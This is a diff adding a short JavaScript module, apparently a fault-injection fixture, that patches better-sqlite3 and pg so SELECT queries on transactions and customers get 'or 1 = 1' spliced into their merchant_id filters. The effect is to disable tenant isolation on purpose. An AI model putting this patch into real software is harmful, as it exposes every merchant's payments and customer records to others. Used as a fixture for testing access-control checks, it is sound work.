@@ -1,0 +1,19 @@
+// Breaks the server on purpose: looking up payments and customers forgets whose they are.
+import SqliteDatabase from 'better-sqlite3'
+import pg from 'pg'
+
+const shared = (text) =>
+  /^select\b[^]*\bfrom "(?:transactions|customers)"/.test(text)
+    ? text.replaceAll(/(?:"\w+"\.)?"merchant_id" = (?:\?|\$\d+)/g, '($& or 1 = 1)')
+    : text
+
+const { prepare } = SqliteDatabase.prototype
+SqliteDatabase.prototype.prepare = function (text) {
+  return prepare.call(this, shared(text))
+}
+
+const { query } = pg.Client.prototype
+pg.Client.prototype.query = function (config, ...more) {
+  if (typeof config?.text !== 'string') return query.call(this, config, ...more)
+  return query.call(this, { ...config, text: shared(config.text) }, ...more)
+}
